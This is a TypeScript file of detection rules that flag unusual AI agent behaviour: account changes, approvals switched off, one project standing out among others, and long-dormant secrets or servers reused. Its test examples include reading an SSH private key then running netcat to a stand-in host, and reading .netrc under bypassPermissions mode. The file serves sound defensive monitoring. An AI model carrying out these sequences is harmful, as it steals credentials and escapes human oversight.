import type { BaselineRule } from '../rule.ts';
import { BASE, ORDINARY } from './base.ts';

/** Who works: accounts, how much is left to the agent, agents beside their like, and those that come back. */
export const IDENTITY_RULES: readonly BaselineRule[] = [
  {
    ...BASE,
    code: 'D-11',
    id: 'baseline.identity-change',
    title: 'Agent runs under another account',
    severity: 'medium',
    why: 'Another account may have other rights, other rules and another owner.',
    triage: 'Whose account it is, and who signed in.',
    falsePositives: ['a second account of the same person'],
    taxonomies: { attack: ['T1078'], atlas: [], owasp: ['ASI03'] },
    bundles: ['MON', 'ACC'],
    examples: {
      hit: [
        { name: 'an account nobody used here', account: 'mallory@example.net', then: ORDINARY },
        { name: 'an account of another organisation', account: 'dev@example.org', then: ORDINARY },
      ],
      miss: [
        { name: 'the usual account', guards: 'ordinary work', account: 'dev@example.com', then: ORDINARY },
        { name: 'no account told', guards: 'logs that do not name it', then: ORDINARY },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-12',
    id: 'baseline.autonomy-shift',
    title: 'Agent is supervised less than usual, and does unusual things',
    why: 'With fewer questions asked, a mistake or an injected instruction goes further before anybody sees it.',
    falsePositives: ['a long task given on purpose'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI09', 'ASI10'] },
    bundles: ['MON', 'OVR'],
    examples: {
      hit: [
        { name: 'approvals switched off', mode: 'bypassPermissions', then: ORDINARY },
        {
          name: 'two hundred calls without a word from a person',
          everyMs: 30_000,
          then: [{ shell: 'git status', times: 200 }],
        },
      ],
      miss: [
        { name: 'the usual mode', guards: 'ordinary work', mode: 'default', then: ORDINARY },
        {
          name: 'a turn a little longer than usual',
          guards: 'ordinary spread',
          then: [{ shell: 'git status', times: 8 }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-13',
    id: 'baseline.peer-outlier',
    title: 'A project stands out among the others for days',
    why: 'What is unusual compared with all other work of the same person, again and again, is worth one look.',
    falsePositives: ['the only project of its kind'],
    taxonomies: { attack: [], atlas: [], owasp: ['ASI10'] },
    bundles: ['MON'],
    examples: {
      hit: [
        {
          name: 'strange work on two days, in one of five projects',
          elsewhere: 4,
          twice: true,
          then: [{ read: '/home/dev/.ssh/id_ed25519' }, { shell: 'nc drop.example.net 443' }],
        },
        {
          name: 'a new server and a new mode on two days',
          elsewhere: 4,
          twice: true,
          mode: 'bypassPermissions',
          then: [{ mcp: 'helper', tool: 'run' }, { read: '/home/dev/.netrc' }],
        },
      ],
      miss: [
        {
          name: 'strange work on one day',
          guards: 'one-time tasks',
          elsewhere: 4,
          then: [{ read: '/home/dev/.ssh/id_ed25519' }, { shell: 'nc drop.example.net 443' }],
        },
        {
          name: 'the only project',
          guards: 'comparing with nothing',
          twice: true,
          then: [{ read: '/home/dev/.ssh/id_ed25519' }, { shell: 'nc drop.example.net 443' }],
        },
      ],
    },
  },
  {
    ...BASE,
    code: 'D-14',
    id: 'baseline.dormant-return',
    title: 'A server or secret that was not used for long is used again',
    why: 'What nobody uses nobody watches; a forgotten server or key is a favourite way in.',
    falsePositives: ['a yearly task', 'a project taken up again'],
    taxonomies: { attack: ['T1078'], atlas: [], owasp: ['ASI03', 'ASI10'] },
    bundles: ['MON', 'ACC'],
    examples: {
      hit: [
        {
          name: 'a secret of two months ago',
          early: [{ read: '/home/dev/.netrc' }],
          then: [{ read: '/home/dev/.netrc' }],
        },
        {
          name: 'a server of two months ago',
          early: [{ mcp: 'db', tool: 'query' }],
          then: [{ mcp: 'db', tool: 'query' }],
        },
      ],
      miss: [
        {
          name: 'a secret that is read every day',
          guards: 'ordinary work',
          usual: [{ read: '/home/dev/.netrc' }, ...ORDINARY],
          then: [{ read: '/home/dev/.netrc' }],
        },
        {
          name: 'a command of two months ago',
          guards: 'commands, which come and go',
          early: [{ shell: 'make lint' }],
          then: [{ shell: 'make lint' }],
        },
      ],
    },
  },
];
